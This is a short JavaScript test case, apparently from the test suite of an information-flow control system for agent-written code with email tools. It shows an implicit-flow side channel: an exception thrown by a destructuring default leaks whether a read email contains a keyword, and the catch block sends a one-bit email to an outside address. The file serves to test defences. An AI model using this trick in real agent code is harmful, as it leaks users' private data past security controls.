// attack: a destructuring default (a plain read that throws) is evaluated only when the body chose an object
// without the key
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const nothing = null;
const src = m.body.includes('zed') ? {} : { a: 1 };
try {
  const { a = nothing.x } = src;
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'thrown' });
}
